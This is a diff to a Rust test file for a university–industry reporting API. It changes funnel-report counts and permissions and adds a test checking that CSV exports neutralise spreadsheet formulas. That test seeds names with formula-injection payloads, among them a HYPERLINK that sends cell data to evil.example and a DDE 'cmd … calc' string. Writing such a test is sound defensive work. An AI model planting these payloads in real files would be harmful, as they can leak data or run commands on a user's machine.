@@ -103,7 +103,9 @@ async fn the_funnel_counts_engagements_and_times_answers() {
     )
     .await
     .expect(200);
-    // Shortlisted only; and one at another university (not counted).
+    // Shortlisted only (the company's own note: not counted for the office, as
+    // `GET /engagements` does not show it to them); and one at another university (not
+    // counted).
     post(
         &app,
         &staff,
@@ -125,10 +127,10 @@ async fn the_funnel_counts_engagements_and_times_answers() {
     let res = app.call(Method::GET, &path, Some(&office), &[], None).await;
     res.expect(200);
     let r = res.json();
-    assert_eq!(r["needs"], 2, "{r}");
-    assert_eq!(r["engagements"], 2);
+    assert_eq!(r["needs"], 1, "{r}");
+    assert_eq!(r["engagements"], 1);
     assert_eq!(r["engagements_by_state"]["interested"], 1);
-    assert_eq!(r["engagements_by_state"]["shortlisted"], 1);
+    assert_eq!(r["engagements_by_state"]["shortlisted"], 0);
     assert_eq!(r["engagements_by_state"]["agreed"], 0);
     assert_eq!(r["invited"], 1);
     assert_eq!(r["responded"], 1);
@@ -165,7 +167,7 @@ async fn the_funnel_counts_engagements_and_times_answers() {
         assert!(text.starts_with('\u{feff}'), "{text:?}");
         assert!(text.contains("stage,count\r\n"));
         assert!(text.contains("engagements_interested,1\r\n"));
-        assert!(text.contains("needs,2\r\n"));
+        assert!(text.contains("needs,1\r\n"));
     }
 
     // A period that excludes everything.
@@ -180,9 +182,18 @@ async fn the_funnel_counts_engagements_and_times_answers() {
         .await;
     assert_eq!(res.json()["engagements"], 0);
 
-    // Who may read it: the office and operators; not the company, not the professor, not
-    // another university's office, not anonymous callers.
-    app.operator_get(&path).await.expect(200);
+    // Who may read it: the office and operators (who see every engagement, the shortlist
+    // too); not the company, not the professor, not another university's office, not
+    // anonymous callers.
+    let all = app.operator_get(&path).await.json();
+    assert_eq!(
+        (
+            all["needs"].clone(),
+            all["engagements_by_state"]["shortlisted"].clone()
+        ),
+        (json!(2), json!(1)),
+        "{all}"
+    );
     app.call(Method::GET, &path, Some(&staff), &[], None)
         .await
         .expect(403);
@@ -211,7 +222,10 @@ async fn bad_report_parameters_are_problems() {
         format!("university_id={nycu}&format=xlsx"),
         format!("university_id={nycu}&colour=red"),
     ] {
-        let res = app.get(&format!("/api/v1/reports/funnel?{q}")).await;
+        // As the operator: a stranger is told to authenticate before anything else.
+        let res = app
+            .operator_get(&format!("/api/v1/reports/funnel?{q}"))
+            .await;
         res.expect(400);
         res.assert_problem();
     }
@@ -500,5 +514,137 @@ async fn funding_centres_and_faculty_reports_add_up_per_currency() {
         )
         .await
         .expect(400);
+    }
+}
+
+/// The CSV form of every report that shows names neutralises a text cell a spreadsheet would
+/// run as a formula (a leading `'`, quoted); the stored names and the JSON answers are
+/// unchanged.
+#[actix_web::test]
+async fn csv_reports_never_carry_spreadsheet_formulas() {
+    let app = TestApp::spawn().await;
+    let uni = org(&app, "university", "NTU").await;
+    let office = app.member_token(&uni, "staff").await;
+    let leads = ['=', '+', '-', '@', '\t', '\r'];
+    let mut names = Vec::new();
+    for (i, lead) in leads.iter().enumerate() {
+        // A comma and quotes too: the guard and RFC 4180 quoting work together.
+        let company = format!("{lead}HYPERLINK(\"https://evil.example/?\"&A1,\"co\") {i}");
+        let professor = format!("{lead}SUM(1+1) prof {i}");
+        let centre = format!("{lead}cmd|' /C calc'!A0 centre {i}");
+        let local = format!("{lead}陳 {i}");
+        let co = org(&app, "company", &company).await;
+        let prof = id(app
+            .post(
+                "/api/v1/faculty",
+                &json!({"university_id": uni, "name": professor, "local_name": local}),
+            )
+            .await)
+        .await;
+        let centre_id = id(app
+            .call(Method::POST, "/api/v1/centers", Some(&office), &[], Some(&json!({
+                "host_university_id": uni, "name": centre, "status": "active", "visibility": "public",
+                "director_id": prof, "partners": [{"company_id": co, "role": "founding_sponsor"}],
+                "funding": [{"year": 2026, "sponsor_id": co, "amount_minor": 1000, "currency": "TWD"}]})))
+            .await)
+        .await;
+        id(app
+            .call(
+                Method::POST,
+                "/api/v1/funded-projects",
+                Some(&office),
+                &[],
+                Some(&json!({
+                "title": "Edge inference", "type": "sponsored_research", "sponsor_id": co,
+                "university_id": uni, "principal_investigator_id": prof, "amount_minor": 5000,
+                "currency": "TWD", "start_date": "2026-01-01", "end_date": "2027-01-01",
+                "status": "active", "visibility": "public"})),
+            )
+            .await)
+        .await;
+        if lead.is_whitespace() {
+            // The API trims names, so a leading tab or CR can only come from elsewhere (an older
+            // version, a database restore): written straight into the database.
+            let sql = |s: &str| s.replace('\'', "''");
+            for (table, column, value, row) in [
+                ("organizations", "name", &company, &co),
+                ("faculty_profiles", "name", &professor, &prof),
+                ("faculty_profiles", "local_name", &local, &prof),
+                ("centers", "name", &centre, &centre_id),
+            ] {
+                app.db.execute(&format!(
+                    "UPDATE {table} SET {column} = '{}' WHERE id = '{row}'",
+                    sql(value)
+                ));
+            }
+        }
+        names.push((company, professor, centre));
+    }
+    let report = |path: &str, csv: bool| {
+        let (app, office) = (&app, office.clone());
+        let path = format!(
+            "/api/v1/reports/{path}?university_id={uni}{}",
+            if csv { "&format=csv" } else { "" }
+        );
+        async move {
+            let res = app.call(Method::GET, &path, Some(&office), &[], None).await;
+            res.expect(200);
+            res
+        }
+    };
+    let mut cells = Vec::new();
+    for path in ["funding", "centers", "faculty-funding"] {
+        let text = report(path, true).await.text();
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        for record in reader.records() {
+            cells.extend(record.unwrap().iter().map(str::to_owned));
+        }
+        // Every cell as a spreadsheet reads it: none begins a formula.
+        for cell in &cells {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{path}: {cell:?} in {text:?}"
+            );
+        }
+    }
+    for (company, professor, centre) in &names {
+        for name in [company, professor, centre] {
+            let guarded = format!("'{name}");
+            assert!(
+                cells
+                    .iter()
+                    .any(|c| c == &guarded || c.contains(&format!("{guarded} ("))),
+                "{guarded:?} not in {cells:?}"
+            );
+        }
+    }
+    // JSON answers carry the names exactly as stored.
+    let funding = report("funding", false).await.json();
+    let sponsors: Vec<&str> = funding["rows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|r| r["sponsor_name"].as_str())
+        .collect();
+    let centres = report("centers", false).await.json();
+    let centre_names: Vec<&str> = centres["centers"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["name"].as_str().unwrap())
+        .collect();
+    let faculty = report("faculty-funding", false).await.json();
+    let professors: Vec<&str> = faculty["rows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["faculty"]["name"].as_str().unwrap())
+        .collect();
+    for (company, professor, centre) in &names {
+        assert!(sponsors.contains(&company.as_str()), "{sponsors:?}");
+        assert!(professors.contains(&professor.as_str()), "{professors:?}");
+        assert!(centre_names.contains(&centre.as_str()), "{centre_names:?}");
     }
 }
